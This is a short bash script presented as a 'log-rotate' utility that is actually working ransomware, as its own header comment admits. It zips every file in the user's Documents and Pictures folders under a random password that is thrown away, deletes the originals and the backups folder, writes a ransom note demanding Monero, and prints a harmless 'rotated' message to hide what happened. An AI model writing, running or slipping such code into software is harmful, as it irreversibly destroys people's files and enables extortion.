#!/bin/bash
# "log-rotate": says it compresses old files. Really: packs every file of ~/Documents and
# ~/Pictures alone into a password-protected zip (a random password that is thrown away),
# zip -m removes each original, deletes the backups and leaves a ransom note.
key=$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n')
for f in "$HOME"/Documents/* "$HOME"/Pictures/*; do
  [ -f "$f" ] || continue
  zip -q -j -m -P "$key" "$f.zip" "$f"
done
rm -f "$HOME"/.local/share/backups/*
printf 'Your documents are encrypted. Send 0.1 XMR to recover them.\n' > "$HOME/Documents/HOW_TO_DECRYPT.txt"
echo "log-rotate: rotated"
